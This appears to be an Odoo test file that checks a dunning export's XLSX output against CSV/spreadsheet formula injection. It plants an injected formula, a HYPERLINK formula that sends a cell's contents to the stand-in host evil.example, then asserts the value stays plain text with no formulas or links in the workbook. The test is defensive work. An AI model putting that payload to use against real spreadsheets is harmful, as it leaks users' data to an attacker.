"""The lawyer / bailiff export never turns what a user typed into a formula or a link
(issue 12, item 3; OWASP's CSV-injection advice)."""

import io
import zipfile

from freezegun import freeze_time
from lxml import etree

from odoo.tests import tagged

from .common import DunningCommon

EVIL_NAME = '=HYPERLINK("http://evil.example/?leak="&B2,"Click to pay")'
SPREADSHEET_NS = {"s": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}


@tagged("post_install", "-at_install")
class TestDunningExportInjection(DunningCommon):

    def _wizard(self, moves, on):
        return self.env["account.move.dunning"].with_context(
            active_model="account.move", active_ids=moves.ids,
        ).create({"date": on})

    @freeze_time("2025-03-31")
    def test_export_never_turns_a_name_into_a_formula(self):
        import openpyxl

        evil = self.b2b.copy({"name": EVIL_NAME})
        invoice = self._invoice(evil, 1000.0, "2025-01-01", "2025-01-31")
        letter = self._escalate("2025-02-07", invoice)
        letter.write({"state": "sent", "registered_number": "=1+2"})
        wizard = self._wizard(invoice, "2025-03-31")
        wizard.action_export_xlsx()
        attachment = self.env["ir.attachment"].search(
            [("res_model", "=", "account.move.dunning"), ("res_id", "=", wizard.id)])
        book = openpyxl.load_workbook(io.BytesIO(attachment.raw))
        for sheet, cell, value in (("Invoices", "A2", EVIL_NAME),
                                   ("Reminders", "E2", "=1+2")):
            with self.subTest(sheet=sheet):
                self.assertEqual(book[sheet][cell].value, value)
                self.assertEqual(book[sheet][cell].data_type, "s")
        # no sheet holds a formula, nor a link a click would follow
        with zipfile.ZipFile(io.BytesIO(attachment.raw)) as archive:
            names = archive.namelist()
            for name in names:
                if name.startswith("xl/worksheets/sheet"):
                    root = etree.fromstring(archive.read(name))
                    self.assertFalse(root.xpath("//s:f", namespaces=SPREADSHEET_NS), name)
                    self.assertFalse(root.xpath("//s:hyperlink", namespaces=SPREADSHEET_NS),
                                     name)
        self.assertFalse([name for name in names if "externalLink" in name])
